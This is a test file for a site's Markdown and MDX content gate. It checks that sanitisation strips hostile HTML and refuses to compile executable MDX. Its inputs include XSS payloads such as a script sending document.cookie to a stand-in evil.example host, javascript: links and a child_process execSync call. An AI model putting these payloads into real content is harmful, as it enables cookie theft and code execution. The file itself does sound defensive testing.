/**
 * The content gate inside the build's own Markdown and MDX pipelines, as configured in
 * astro.config.mjs: what a page would contain if `npm run check` and the content guard
 * were skipped. Hostile markup must not reach the HTML, and MDX that would run code must
 * not compile at all (a compile error, so nothing of it is ever evaluated).
 */
import { describe, expect, it } from 'vitest';
import config from '../../astro.config.mjs';

interface Processor {
  createRenderer(shared: object): Promise<{ render(source: string, options: object): Promise<{ code: string }> }>;
  createMdxRenderer(shared: object, mdx: object): Promise<{ process(source: string, file: string, frontmatter: object): Promise<{ code: string }> }>;
}
const processor = config.markdown!.processor as unknown as Processor;
const shared = { syntaxHighlight: 'prism' };
const markdown = await processor.createRenderer(shared);
const mdx = await processor.createMdxRenderer(shared, { optimize: false, srcDir: new URL('../../src/', import.meta.url), sourcemap: false });
const file = `${process.cwd()}/content/programs/hostile.mdx`;

const renderMd = async (source: string) => (await markdown.render(source, {})).code;
const compileMdx = async (source: string, frontmatter: object = {}) => (await mdx.process(source, file, frontmatter)).code;

describe('Markdown pipeline: raw HTML is sanitised by the allowlist', () => {
  it.each([
    ['a script', '<script>fetch("https://evil.example/?c=" + document.cookie)</script>\n', /<script|evil\.example/],
    ['an event handler', 'Hi <img src="/images/a.png" onerror="alert(1)">\n', /onerror/i],
    ['a javascript: link', '[x](javascript:alert(1)) and <a href="javascript:alert(2)">y</a>\n', /javascript:/i],
    ['an iframe', '<iframe src="https://evil.example/frame"></iframe>\n', /<iframe|evil\.example/],
    ['a stylesheet link', '<link rel="stylesheet" href="https://evil.example/a.css">\n', /<link|evil\.example/],
    ['a style attribute', '<div style="background:url(https://evil.example/t.png)">Styled</div>\n', /style=|evil\.example/],
    ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">\n', /<meta|evil\.example/],
    ['an image from another host', '![x](https://tracker.example/p.png) <img src="//tracker.example/q.png">\n', /tracker\.example/],
    ['a data: image', '![x](data:image/png;base64,AAAA)\n', /data:/],
    ['an HTML comment', 'Text <!-- internal: budget 40k -->\n', /budget|<!--/],
    ['an svg', '<svg><a href="https://evil.example"><text>x</text></a></svg>\n', /<svg|evil\.example/],
    ['a form', '<form action="https://evil.example"><input name="password"></form>\n', /<form|<input|evil\.example/],
  ])('removes %s', async (_name, source, forbidden) => {
    expect(await renderMd(source)).not.toMatch(forbidden);
  });

  it('keeps what authors legitimately write, and what Markdown and Prism produce', async () => {
    const html = await renderMd(
      '<details>\n<summary>More</summary>\n\nPress <kbd>Ctrl</kbd>, see note<sup>1</sup>, <a id="anchor" href="/programs/x/">here</a>.\n\n</details>\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [ ] a task\n\n```js\nconst a = 1;\n```\n\n![Booth](/images/booth.jpg)\n',
    );
    for (const kept of ['<details>', '<summary>More</summary>', '<kbd>Ctrl</kbd>', '<sup>1</sup>', 'id="anchor"', '<table', 'type="checkbox"', 'class="token keyword"', 'src="/images/booth.jpg"']) {
      expect(html).toContain(kept);
    }
  });

  it('cleans what an unknown element wraps, not only the element (its queued clean-ups would be lost)', async () => {
    const html = await renderMd('<blink><script>alert(1)</script><img src="/images/a.png" onerror="alert(2)"><b onclick="alert(3)">bold</b></blink>\n');
    expect(html).not.toMatch(/<script|onerror|onclick|alert/);
    expect(html).toContain('<b>bold</b>');
  });

  it('keeps the text of an element it does not know, without the tag', async () => {
    const html = await renderMd('Some <blink>blinking</blink> text.\n');
    expect(html).toContain('blinking');
    expect(html).not.toContain('<blink');
  });
});

describe('MDX pipeline: code never compiles', () => {
  it.each([
    ['an import', "import fs from 'node:fs'\n\nText.\n", /"import" lines are not allowed: content may not load code/],
    ['an export', 'export const secret = process.env.HOME\n\nText.\n', /"export" lines are not allowed: content may not define code/],
    ['an expression', 'Home: {process.env.HOME}\n', /\{process\.env\.HOME\} is a JavaScript expression/],
    ['an expression in a block', "{require('child_process').execSync('id')}\n", /is a JavaScript expression/],
    ['an unknown component', '<Tweet id="1" />\n', /<Tweet> is not a component the wiki provides/],
    ['a member component', '<Foo.Bar />\n', /<Foo\.Bar> is not a component/],
    ['an expression attribute', '<Callout title={process.env.HOME}>x</Callout>\n', /title=\{…\} on <Callout> is a JavaScript expression/],
    ['a spread attribute', '<Callout {...props}>x</Callout>\n', /\{\.\.\.props\} in <Callout> is a JavaScript expression/],
    ['a component image from another host', '<Figure src="https://evil.example/a.png" alt="x" />\n', /would load from another host/],
  ])('refuses %s, naming the file', async (_name, source, message) => {
    await expect(compileMdx(source)).rejects.toThrow(message);
    await expect(compileMdx(source)).rejects.toThrow(/content\/programs\/hostile\.mdx/);
  });

  it('refuses code inside HTML it unwraps', async () => {
    await expect(compileMdx('<blink>\n\n<p onclick="x">y <Tweet /></p>\n\n</blink>\n')).rejects.toThrow(/<Tweet> is not a component/);
    await expect(compileMdx('<blink>\n\nTotal {1 + 1}\n\n</blink>\n')).rejects.toThrow(/is a JavaScript expression/);
  });

  it('refuses a layout in the frontmatter, which the MDX compiler would import', async () => {
    await expect(compileMdx('Text.\n', { layout: '../../scripts/build.ts' })).rejects.toThrow(/"layout" in the frontmatter would load a code module/);
  });

  it('compiles registry components and comments, and strips refused HTML attributes', async () => {
    const code = await compileMdx('{/* a note for authors */}\n\n<Callout type="tip" title="Hi">x</Callout>\n\n<p onclick="alert(1)" style="color:red">y</p>\n\n<iframe src="https://evil.example" />\n');
    expect(code).toContain('_jsx(Callout');
    expect(code).not.toMatch(/onclick|color:red|iframe|evil\.example|a note for authors/);
  });
});
